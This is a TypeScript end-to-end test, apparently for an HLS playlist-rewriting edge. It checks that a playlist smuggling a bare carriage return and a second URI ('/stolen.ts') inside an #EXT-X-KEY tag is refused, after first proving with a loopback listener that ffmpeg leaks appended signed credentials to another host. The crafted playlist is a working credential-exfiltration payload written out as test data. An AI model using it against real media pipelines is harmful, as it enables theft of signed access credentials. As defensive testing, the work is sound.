/**
 * A CR inside a tag, read by real ffmpeg. ffmpeg (like ExoPlayer) ends a line at a bare CR, so the tail of
 * `#EXT-X-KEY:...,X-NOTE="\rhttp://other-host/x.ts?",URI="key.bin"` becomes a segment URI on another host, carrying
 * whatever credentials a rewriter appended to `key.bin`. A listener on another port stands for that host.
 *
 * First the negative control: ffmpeg reading a naively rewritten copy of the playlist (credentials appended to the
 * key URI, as a rewriter blind to the CR would) must reach the listener with the Signature, which proves the
 * listener and ffmpeg's reading are real. Then the same playlist through the local edge: origin-response refuses it
 * (502), and the listener receives nothing.
 */
import { mkdtempSync, mkdirSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { IncomingMessage, Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { rawParam, startE2eEdge } from './helpers/edge.js';
import type { E2eEdge } from './helpers/edge.js';
import { ffmpegRead } from './helpers/ffmpeg.js';

/** A loopback server that records every request target and answers 404. */
async function listen(handler?: (req: IncomingMessage) => { status: number; body: string } | undefined): Promise<{ server: Server; port: number; seen: string[] }> {
  const seen: string[] = [];
  const server = createServer((req, res) => {
    seen.push(req.url ?? '');
    const answer = handler?.(req) ?? { status: 404, body: 'not found' };
    res.writeHead(answer.status, { 'content-type': 'application/vnd.apple.mpegurl' }).end(answer.body);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { server, port: (server.address() as AddressInfo).port, seen };
}

async function close(server: Server): Promise<void> {
  server.closeAllConnections();
  await new Promise<void>((resolve) => server.close(() => resolve()));
}

/** The playlist an attacker who controls playlist content writes, pointing the CR's tail at `port`. */
const playlist = (port: number) => [
  '#EXTM3U',
  '#EXT-X-VERSION:3',
  '#EXT-X-TARGETDURATION:4',
  '#EXTINF:4,',
  `#EXT-X-KEY:METHOD=NONE,X-NOTE="\rhttp://127.0.0.1:${port}/stolen.ts?",URI="key.bin"`,
  'seg0.ts',
  '#EXT-X-ENDLIST',
  '',
].join('\n');

describe('a CR inside a tag, read by ffmpeg', () => {
  let listener: Awaited<ReturnType<typeof listen>>;
  let env: E2eEdge;
  let origin: string;
  beforeAll(async () => {
    listener = await listen();
    origin = mkdtempSync(join(tmpdir(), 'cfhls-crtag-'));
    mkdirSync(join(origin, 'crtag'));
    writeFileSync(join(origin, 'crtag', 'master.m3u8'), playlist(listener.port));
    env = await startE2eEdge(origin);
  });
  afterAll(async () => {
    await env?.close();
    if (listener !== undefined) await close(listener.server);
  });

  it('negative control: ffmpeg sends a naive rewrite\'s credentials to the other host', async () => {
    const signed = env.signMaster('crtag' as never);
    const credentials = signed.slice(signed.indexOf('?') + 1);
    const naive = playlist(listener.port).replace('URI="key.bin"', `URI="key.bin?${credentials}"`);
    const server = await listen((req) => (req.url === '/naive.m3u8' ? { status: 200, body: naive } : undefined));
    try {
      await ffmpegRead(`http://127.0.0.1:${server.port}/naive.m3u8`, 30_000);
    } finally {
      await close(server.server);
    }
    const stolen = listener.seen.filter((target) => target.startsWith('/stolen'));
    expect(stolen.length).toBeGreaterThan(0);
    expect(stolen[0]).toContain(`Signature=${rawParam(signed, 'Signature')}`);
    listener.seen.length = 0;
  });

  it('through the local edge: origin-response refuses the playlist (502) and the other host receives nothing', async () => {
    const signed = env.signMaster('crtag' as never);
    const res = await fetch(signed);
    expect(res.status).toBe(502);
    expect(res.headers.get('x-cfhls-rewrite')).toBe('refused; reason=control-character');
    expect(await res.text()).not.toContain('stolen');
    const run = await ffmpegRead(signed, 30_000);
    expect(run.code).not.toBe(0);
    expect(listener.seen).toEqual([]);
  });
});
